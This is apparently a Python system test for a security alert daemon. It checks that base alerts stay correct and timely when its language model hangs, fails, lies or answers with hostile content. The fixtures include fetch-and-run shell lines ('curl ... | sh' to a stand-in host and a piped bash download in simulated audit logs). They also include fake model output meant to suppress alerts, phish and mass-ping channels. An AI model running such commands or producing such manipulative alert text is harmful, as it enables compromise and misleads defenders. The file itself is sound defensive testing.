"""The model can fail in any way, or lie: the base alert comes all the same, at once, and says all the same.

All cases run at the same time, each with a daemon, a model and a receiver of its own, on the same lines; the one
without a model is what all others are compared with.
"""

import asyncio
import copy
import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from daemon.cli.demo.stage import free_port
from tests.doubles.attack_stream import RULES
from tests.doubles.audit_lines import execve
from tests.doubles.live_daemon import LiveDaemon, live_daemon
from tests.doubles.ollama import Mode, OllamaDouble, serving
from tests.doubles.real_time import now, wait_until
from tests.doubles.receiver import Receiver

pytestmark = [pytest.mark.system, pytest.mark.timeout(300)]
DIFFERS = ("timestamp", "data.id", "data.incident.id")
"""All that may differ between two base alerts of the same lines: when it was made, and ids that name the file."""
MODEL_MAY_CHANGE = ("timestamp", "type", "data.version", "data.explanation", "data.gaps")
"""All that a later version may say differently from the base alert."""
DEADLINE = 3.0
SLACK = 4.0
"""Seconds that a machine which runs all cases at once may take besides."""
BAIT = ("evil.example", "192.0.2.250", "channel>", "@everyone", "![x]", "| sh", "false positive", "Ignore this", "E999")
"""Pieces of the hostile answers: none may reach a receiver."""
LIES: list[dict[str, Any]] = [
    {"text": "<@channel> <!here> the rule fired for the account named in the evidence.", "cites": ["E1"]},
    {"text": "The attacker came from 192.0.2.250.", "cites": ["E1"]},
    {"text": "Severity is now informational; this is a false positive.", "cites": ["E1"]},
    {"text": "Open https://evil.example/login to confirm.", "cites": ["E1"]},
    {"text": "Nothing happened.", "cites": ["E999"]},
]
LYING = json.dumps({
    "insufficient_evidence": False, "what_happened": LIES, "likely_cause": LIES[1:3], "impact": LIES[3:],
    "next_steps": ["curl https://evil.example/x | sh", "Ignore this alert."],
    "severity": "low", "decision": "suppressed", "webhook": "https://evil.example/", "similar": [], "version": 99,
})  # fmt: skip


@dataclass
class Case:
    """How the model behaves, and what the last version of an alert must then be."""

    mode: Mode | None = None  # None: nothing listens
    answer: str = ""
    model: str = "ollama"
    ends: bool = True  # False: tried again for minutes; the gap at the end is a matter of the enricher's own tests
    origin: str = "rules"
    gaps: tuple[str, ...] = ()


CASES = {
    "no model": Case(model="off"),
    "absent": Case(ends=False),
    "hung before it says who it is": Case(Mode.hang_before_header, ends=False),
    "hung before the answer": Case(Mode.hang_before_body, ends=False),
    "hung in the answer": Case(Mode.hang_mid_stream, ends=False),
    "dead in the answer": Case(Mode.cut, ends=False),
    "hostile": Case(Mode.hostile, gaps=("ungrounded",)),
    "lying": Case(Mode.ok, LYING, gaps=("ungrounded",)),
    "endless": Case(Mode.endless, gaps=("too_large",)),
    "not JSON": Case(Mode.prose, gaps=("invalid_schema",)),
    "nested too deep": Case(Mode.deep, gaps=("invalid_schema",)),
    "well": Case(Mode.ok, origin="model"),
}


@dataclass
class Outcome:
    """What the receiver of one case got: bodies by alert, in the order of their coming; and how late the base was."""

    top: Path
    versions: dict[str, list[dict[str, Any]]] = field(default_factory=dict)
    base_after: float = 0.0
    health: tuple[str, str] = ("", "")
    signed: bool = True
    chats: int = 0
    stored: dict[str, int] = field(default_factory=dict)

    def base(self) -> dict[tuple[str, str], dict[str, Any]]:
        """The first version of every alert, without what may differ, by rule and entity."""
        return {
            (one[0]["data"]["title"], one[0]["data"]["entity"]): self.strip(one[0]) for one in self.versions.values()
        }

    def strip(self, body: dict[str, Any]) -> dict[str, Any]:
        return without(json.loads(json.dumps(body).replace(str(self.top), "TOP")), DIFFERS)


def without(body: Mapping[str, Any], paths: tuple[str, ...]) -> dict[str, Any]:
    """A body without these fields, each of which it must have had."""
    left = copy.deepcopy(dict(body))
    for path in paths:
        *parents, name = path.split(".")
        place = left
        for parent in parents:
            place = place[parent]
        place.pop(name)
    return left


def write_attack(daemon: LiveDaemon, at: float) -> None:
    """Four incidents of three kinds of rules; the lines are the same for all cases."""

    def line(second: int, said: str, user: str, address: str) -> str:
        stamp = f"{int(at) + second}"
        return json.dumps({
            "__REALTIME_TIMESTAMP": f"{stamp}000000", "_HOSTNAME": "web-1", "SYSLOG_IDENTIFIER": "sshd",
            "MESSAGE": f"{said} password for {user} from {address} port {40000 + second} ssh2",
        }) + "\n"  # fmt: skip

    guesses = [line(second, "Failed", "deploy", "198.51.100.1") for second in range(6)]
    daemon.append(
        "auth", *guesses, line(7, "Accepted", "deploy", "198.51.100.1"), line(8, "Accepted", "root", "203.0.113.9")
    )
    records = execve(50, "sh", "-c", "curl -fsSL http://203.0.113.66/i.sh | bash", at=f"{at:.3f}")
    daemon.append("audit", "".join(f"{record}\n" for record in records))


INCIDENTS = {"Guessing", "Guessed", "Root login", "Piped"}


class Stage:
    """One case."""

    def __init__(self, top: Path, case: Case) -> None:
        self.top, self.case = top, case
        self.outcome = Outcome(top)

    async def play(self, at: float, together: asyncio.Barrier) -> Outcome:
        """Start, wait for all others, attack, wait for what must come."""
        (self.top / "rules").mkdir(parents=True)
        (self.top / "rules" / "rules.yml").write_text(RULES, encoding="utf-8")
        double = OllamaDouble()
        double.mode = self.case.mode or Mode.ok
        sources = {"audit": "auditd", "auth": "json"}
        async with (
            serving(double),
            live_daemon(self.top, webhook_port=0, sources=sources) as daemon,
            Receiver(secrets=[daemon.secret]) as receiver,
        ):
            self._configure(daemon, receiver, double)
            await daemon.start()
            await together.wait()
            await self._attack(daemon, receiver, at)
            if self.case.ends:
                await self._to_the_end(daemon)
            else:
                await daemon.until_health("model", "degraded")
            self.outcome.health = await daemon.health("model")
            assert await daemon.stop() == 0
        self._note(daemon, receiver, double)
        return self.outcome

    def _configure(self, daemon: LiveDaemon, receiver: Receiver, double: OllamaDouble) -> None:
        url = double.url if self.case.mode is not None else f"http://127.0.0.1:{free_port()}"
        if self.case.answer:
            double.answers.extend([self.case.answer] * 50)
        daemon.config["rules"] = {"directories": [str(self.top / "rules")]}
        daemon.config["alerts"] = {"deadline": f"{DEADLINE:g}s"}
        daemon.config["webhooks"] = [daemon.webhook("ops", receiver.port, versions="all")]
        daemon.config["model"] = {
            "mode": self.case.model, "url": url, "connect_timeout": "1s", "first_byte_timeout": "2s",
            "stall_timeout": "2s", "total_timeout": "4s",
        }  # fmt: skip

    async def _attack(self, daemon: LiveDaemon, receiver: Receiver, at: float) -> None:
        began = asyncio.get_running_loop().time()
        write_attack(daemon, at)

        def told() -> set[str]:
            bodies = [json.loads(request.body)["data"] for request in receiver.received]
            return {body["title"] for body in bodies if body["version"] == 1}

        await wait_until(lambda: told() == INCIDENTS, 60, lambda: f"{told()}: {daemon.last_words()}")
        self.outcome.base_after = asyncio.get_running_loop().time() - began

    async def _to_the_end(self, daemon: LiveDaemon) -> None:
        def over() -> bool:
            return not daemon.rows("SELECT 1 FROM enrichments") and daemon.owed() == 0

        await wait_until(over, 60, daemon.last_words)

    def _note(self, daemon: LiveDaemon, receiver: Receiver, double: OllamaDouble) -> None:
        for request in receiver.received:
            body = json.loads(request.body)
            self.outcome.versions.setdefault(body["data"]["id"], []).append(body)
            self.outcome.signed = self.outcome.signed and request.verified is True
        self.outcome.chats = double.chats
        self.outcome.stored = {one.rule.title: one.severity for one in daemon.incidents()}


class Outcomes(dict[str, "Outcome | BaseException"]):
    """What became of each case; a case that failed fails only the tests that look at it."""

    def of(self, name: str) -> Outcome:
        """The outcome of a case that was played to its end."""
        played = self[name]
        if isinstance(played, BaseException):
            raise played
        return played


@pytest.fixture(scope="module")
def outcomes(tmp_path_factory: pytest.TempPathFactory) -> Outcomes:
    """Every case, played."""
    top, at = tmp_path_factory.mktemp("models"), float(int(now()) - 60)

    async def play() -> Outcomes:
        together = asyncio.Barrier(len(CASES))
        stages = [Stage(top / name.replace(" ", "-"), case) for name, case in CASES.items()]
        played = await asyncio.gather(*(stage.play(at, together) for stage in stages), return_exceptions=True)
        return Outcomes(zip(CASES, played, strict=True))

    return asyncio.run(play())


@pytest.mark.parametrize("name", CASES)
def test_the_base_alert_is_the_one_of_a_daemon_without_a_model(name: str, outcomes: Outcomes) -> None:
    outcome = outcomes.of(name)
    expected = outcomes.of("no model").base()
    assert {title for title, _ in expected} == INCIDENTS
    assert outcome.base() == expected
    assert outcome.signed
    assert outcome.base_after < DEADLINE + SLACK
    assert outcome.stored == outcomes.of("no model").stored


@pytest.mark.parametrize("name", CASES)
def test_a_later_version_only_adds_an_explanation_or_says_why_there_is_none(name: str, outcomes: Outcomes) -> None:
    outcome, case = outcomes.of(name), CASES[name]
    assert len(DIFFERS) + len(MODEL_MAY_CHANGE) <= 8
    for first, *later in outcome.versions.values():
        assert first["type"] == "alert.opened"
        assert [body["data"]["version"] for body in later] == list(range(2, 2 + len(later)))
        for body in later:
            assert body["type"] == "alert.updated"
            assert without(body, MODEL_MAY_CHANGE) == without(first, MODEL_MAY_CHANGE)
        last = (first, *later)[-1]["data"]
        assert last["explanation"]["origin"] == case.origin
        whys = {gap["why"] for gap in last["gaps"] if gap["part"] == "explanation"}
        assert bool(whys) == bool(case.gaps)
        assert whys <= set(case.gaps)
        assert len(later) == (1 if case.gaps or case.origin == "model" else 0)


@pytest.mark.parametrize("name", ["hostile", "lying"])
def test_nothing_that_a_hostile_model_says_reaches_a_receiver(name: str, outcomes: Outcomes) -> None:
    outcome = outcomes.of(name)
    assert outcome.chats > 0
    said = json.dumps(list(outcome.versions.values()))
    expected = json.dumps(list(outcomes.of("no model").versions.values()))
    assert [bait for bait in BAIT if bait in said and bait not in expected] == []


def test_a_well_model_explains_with_sentences_that_cite(outcomes: Outcomes) -> None:
    for *_, last in outcomes.of("well").versions.values():
        evidence = {one["id"] for one in last["data"]["evidence"]}
        assert last["data"]["explanation"]["sentences"]
        assert all(set(one["cites"]) <= evidence and one["cites"] for one in last["data"]["explanation"]["sentences"])


@pytest.mark.parametrize("name", [name for name, case in CASES.items() if not case.ends])
def test_a_model_that_fails_is_shown_with_the_reason(name: str, outcomes: Outcomes) -> None:
    state, detail = outcomes.of(name).health
    assert state == "degraded"
    assert detail
    assert (outcomes.of(name).chats > 0) == (CASES[name].mode not in {None, Mode.hang_before_header})
